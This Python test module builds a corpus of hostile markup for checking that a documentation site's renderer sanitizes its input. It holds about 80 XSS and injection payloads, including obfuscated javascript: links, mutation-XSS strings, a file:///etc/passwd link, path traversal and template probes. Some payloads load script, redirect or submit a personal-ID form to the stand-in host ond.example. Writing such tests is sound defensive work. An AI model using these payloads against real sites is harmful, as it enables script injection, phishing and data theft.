"""Markup in texts and fields: nothing runs, nothing is fetched, nothing imitates the site.

Whatever is made of these is held against `sanity`; `test_corpus_browser` opens some in Chromium.
"""

from tests.conftest import MINIMAL
from tests.corpus.input import ACTIVITY, Input, page

PAYLOADS: dict[str, str] = {
    "script": "<script>hit()</script>",
    "script-from-elsewhere": '<script src="https://ond.example/x.js"></script>',
    "script-in-markdown": "Før <script>hit()</script> efter **fed** <script\n>hit()</script\n>",
    "script-split": "<scr<script>ipt>hit()</scr</script>ipt>",
    "script-capitals": "<ScRiPt/x>hit()</sCrIpT>",
    "script-in-svg": "<svg><script>hit()</script></svg>",
    "image-error": "<img src=x onerror=hit()>",
    "image-slashes": '<img/src="x"/onerror="hit()">',
    "image-markdown-title": '![a](x.png "b\\" onerror=hit() c")',
    "image-from-elsewhere": "![a](https://ond.example/x.png)",
    "image-no-scheme": '<img src="//ond.example/x.png" alt="a">',
    "image-backslash": '<img src="\\\\ond.example\\x.png" alt="a">',
    "image-srcset": '<img src="" srcset="https://ond.example/x.png 1x" alt="a">',
    "picture-source": '<picture><source srcset="https://ond.example/x.png"></picture>',
    "svg-load": "<svg onload=hit()>",
    "svg-animate": "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "svg-use": '<svg><use href="https://ond.example/x.svg#a"/></svg>',
    "math": (
        '<math><mtext><mglyph><style><img src=x onerror="hit()"></style></mglyph></mtext></math>'
    ),
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "mutation-comment": "<!--<img src='--><img src=x onerror=hit()//'>",
    "mutation-comment-bang": "<!--a--!><img src=x onerror=hit()>",
    "mutation-table": "<table><style><!--</style><img src=x onerror=hit()>--></table>",
    "mutation-title": "<title><a title='</title><img src=x onerror=hit()>'>",
    "mutation-textarea": "<textarea><a title='</textarea><img src=x onerror=hit()>'>",
    "mutation-template": "<template><img src=x onerror=hit()></template>",
    "mutation-select": "<select><option><style></option></select><img src=x onerror=hit()></style>",
    "mutation-cdata": "<svg><![CDATA[<img src=x onerror=hit()>]]></svg>",
    "mutation-plaintext": "<plaintext>",
    "closing-main": '</div></main></body><body onload="hit()">',
    "frame": '<iframe src="javascript:hit()"></iframe>',
    "frame-document": '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "object": '<object data="javascript:hit()"></object>',
    "embed": '<embed src="https://ond.example/x.swf">',
    "base": '<base href="https://ond.example/">',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://ond.example/">',
    "style": "<style>@import 'https://ond.example/x.css';</style>",
    "style-attribute": (
        '<p style="position:fixed;inset:0;background:url(https://ond.example/x)">a</p>'
    ),
    "sheet": '<link rel="stylesheet" href="https://ond.example/x.css">',
    "form": '<form action="https://ond.example/"><input name="cpr"><button>Send</button></form>',
    "form-button": "<button formaction=javascript:hit()>a</button>",
    "input-focus": "<input autofocus onfocus=hit()>",
    "details": "<details open ontoggle=hit()><summary>a</summary></details>",
    "marquee": "<marquee onstart=hit()>a</marquee>",
    "video": '<video src="https://ond.example/x.mp4" onerror=hit() autoplay></video>',
    "audio": "<audio><source onerror=hit() src=x></audio>",
    "mouse": '<p onmouseover="hit()">a</p>',
    "animation": '<p style="animation-name:x" onanimationstart="hit()">a</p>',
    "custom-element": "<x-y onclick=hit()>a</x-y>",
    "ping": '<a href="https://by.example/" ping="https://ond.example/">a</a>',
    "opener": '<a href="https://by.example/" target="_blank">a</a>',
    "link-script": "[a](javascript:hit())",
    "link-script-capitals": "[a](JaVaScRiPt:hit())",
    "link-script-entity": "[a](&#106;avascript:hit())",
    "link-script-entities": '<a href="&#x6a;&#x61;vascript&colon;hit()">a</a>',
    "link-script-tab": '<a href="java\tscript:hit()">a</a>',
    "link-script-break": '<a href="java&#10;script:hit()">a</a>',
    "link-script-control": '<a href="&#1;javascript:hit()">a</a>',
    "link-script-angle": "<javascript:hit()>",
    "link-script-name": "[a][b]\n\n[b]: javascript:hit()",
    "link-script-percent": "[a](javascript%3Ahit())",
    "link-visual-basic": "[a](vbscript:hit())",
    "link-data": "[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "link-file": "[a](file:///etc/passwd)",
    "link-up": "[a](../../../../mkdocs.yml)",
    "link-title": '[a](https://by.example/ "b\\" onmouseover=\\"hit()")',
    "link-breaks-out": '[a](https://by.example/"onmouseover="hit())',
    "code": "`<img src=x onerror=hit()>`\n\n    <script>hit()</script>\n",
    "heading": '## <img src=x onerror=hit()> "onmouseover="hit()',
    "heading-id": "## a {#hovedindhold onclick=hit()}",
    "note": "a[^1]\n\n[^1]: <img src=x onerror=hit()>",
    "note-name": 'a[^"onclick="hit()]\n\n[^"onclick="hit()]: b',
    "table": "|<img src=x onerror=hit()>|\n|-|\n|<script>hit()</script>|",
    "definition": "<img src=x onerror=hit()>\n: <script>hit()</script>",
    "template-words": "{{ config }} {% include 'mkdocs.yml' %} ${7*7} #{7*7} <%= 7*7 %>",
    "root-mark": '<a href="~/../x">a</a> <img src="~/x" alt="a"> "~/y"',
    "entity-markup": "&lt;img src=x onerror=hit()&gt; &amp;lt;script&amp;gt;",
    "surrogates": "<img src=x onerror=hit()\u2028>",
    "unclosed-attribute": '<a href="https://by.example/',
    "unclosed-comment": "<!-- ",
    "doctype": "<!DOCTYPE html><html onload=hit()><head></head></html>",
    "instruction": "<?php hit() ?><?xml version='1.0'?>",
    "conditional": "<!--[if IE]><script>hit()</script><![endif]-->",
}
"""Texts that would run or fetch something, if they were believed."""

_QUICK = ("mutation-comment", "link-script")

_IMITATIONS: dict[str, str] = {
    "id-of-the-page": '<p id="hovedindhold">a</p>',
    "id-of-a-section": '<p id="oekonomi">a</p><p id="indhold">b</p>',
    "id-twice": '<p id="a">a</p><p id="a">b</p>',
    "id-of-a-heading": '<p id="baggrund">a</p>\n\n## Baggrund\n',
    "id-breaks-out": "<p id='x\" onclick=\"hit()'>a</p>",
    "id-of-script": '<a id="location">a</a><a id="cookie">b</a>',
    "class-of-the-site": '<div class="masthead"><a href="https://ond.example/">Kommunen</a></div>',
    "role": '<div role="alert" aria-label="Siden er flyttet">a</div>',
    "tab-order": '<p tabindex="999">a</p>',
}
"""Markup that is allowed, and pretends to be the site's own."""


def _in_field(text: str) -> str:
    return MINIMAL[ACTIVITY].replace("Gang i gaden", "'" + text.replace("'", "''") + "'")


INPUTS = (
    *(
        Input(
            name=f"body-{name}",
            what=f"a text that holds {text[:60]!r}",
            files={ACTIVITY: page(f"Før.\n\n{text}\n\nEfter.\n")},
            expect="any",
            quick=name in _QUICK,
        )
        for name, text in {**PAYLOADS, **_IMITATIONS}.items()
    ),
    *(
        Input(
            name=f"title-{name}",
            what=f"a title that holds {PAYLOADS[name][:60]!r}",
            files={ACTIVITY: _in_field(PAYLOADS[name])},
            expect="any",
        )
        for name in (
            "script",
            "image-error",
            "closing-main",
            "template-words",
            "root-mark",
            "entity-markup",
        )
    ),
    Input(
        name="class-of-the-masthead",
        what="a text in the clothes of the site's head",
        files={ACTIVITY: page(_IMITATIONS["class-of-the-site"] + "\n")},
        expect="any",
        secret=('<div class="masthead">',),
    ),
)
